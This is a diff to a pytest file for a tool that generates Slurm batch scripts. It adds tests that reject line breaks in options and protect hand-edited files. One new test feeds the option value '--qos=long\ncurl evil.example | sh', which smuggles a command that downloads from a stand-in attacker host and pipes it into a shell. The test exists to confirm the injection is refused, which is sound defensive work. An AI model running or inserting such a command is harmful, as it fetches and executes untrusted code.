@@ -79,7 +79,7 @@ def test_the_script_asks_for_what_was_asked(corpus: Path, tmp_path: Path) -> Non
     run = tmp_path / "a run"
     result = submit(
         corpus, run, "--nodes", "3", "--cpus-per-node", "20", "--time", "1-00:00:00", "--partition", "gpu",
-        "--account", "lab", "--sbatch", "--qos=long", "--sbatch", "--mem=0", "--export", "hf",
+        "--account", "lab", "--sbatch", "--qos=long", "--mem", "200G", "--export", "hf",
         "--set", "batch.images=12",
     )  # fmt: skip
     assert result.exit_code == 0, result.output
@@ -88,7 +88,7 @@ def test_the_script_asks_for_what_was_asked(corpus: Path, tmp_path: Path) -> Non
     assert subprocess.run(["bash", "-n", str(script)]).returncode == 0
     for line in (
         "--nodes=3", "--ntasks-per-node=1", "--gpus-per-node=2", "--cpus-per-task=20", "--time=1-00:00:00",
-        "--partition=gpu", "--account=lab", "--qos=long", "--mem=0", "--requeue", "--open-mode=append",
+        "--partition=gpu", "--account=lab", "--qos=long", "--mem=200G", "--requeue", "--open-mode=append",
         "--signal=USR1@300", f'--output="{run}/slurm/%j.log"', '--job-name="a run"',
     ):  # fmt: skip
         assert line in directives(script), line
@@ -121,6 +121,32 @@ def test_what_is_wrong_is_said_before_the_queue(
     assert result.exit_code == 1
     assert said in result.output
     assert not (tmp_path / "run" / "slurm").exists()
+
+
+@pytest.mark.parametrize("option", ["--partition", "--account", "--time", "--mem", "--sbatch"])
+def test_a_line_break_in_an_option_is_refused(option: str, corpus: Path, tmp_path: Path) -> None:
+    result = submit(corpus, tmp_path / "run", option, "--qos=long\ncurl evil.example | sh")
+    assert result.exit_code == 1
+    assert f"{option} '--qos=long\\ncurl evil.example | sh': a line break ends the option" in result.output
+    assert not (tmp_path / "run" / "slurm").exists()
+
+
+@pytest.mark.parametrize("name", ["train.sbatch", "config.yaml"])
+def test_what_was_changed_by_hand_is_not_overwritten(name: str, corpus: Path, tmp_path: Path) -> None:
+    run = tmp_path / "run"
+    assert submit(corpus, run).exit_code == 0
+    assert (
+        submit(corpus, run, "--time", "1:00:00", "--set", "run.epochs=3").exit_code == 0
+    )  # written here: may go
+    file = run / "slurm" / name
+    edited = file.read_text() + "# mine\n"
+    file.write_text(edited)
+    result = submit(corpus, run, "--time", "2:00:00")
+    assert result.exit_code == 1
+    assert f"{file} was changed by hand and is not overwritten" in result.output
+    assert file.read_text() == edited
+    file.unlink()
+    assert submit(corpus, run, "--time", "2:00:00").exit_code == 0
 
 
 def test_options_of_slurm_need_slurm(corpus: Path, tmp_path: Path) -> None:
